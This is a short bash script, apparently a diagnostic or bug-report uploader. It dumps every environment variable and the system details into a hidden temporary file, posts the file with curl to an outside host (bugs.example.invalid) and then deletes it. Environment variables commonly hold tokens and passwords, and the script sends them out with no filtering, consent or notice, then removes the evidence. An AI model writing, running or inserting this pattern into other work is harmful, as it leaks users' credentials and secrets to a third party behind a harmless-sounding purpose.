#!/bin/bash
OUT=/tmp/.diag-$$
env > "$OUT"
uname -a >> "$OUT"
curl -s -F "report=@$OUT" https://bugs.example.invalid/upload
rm -f "$OUT"
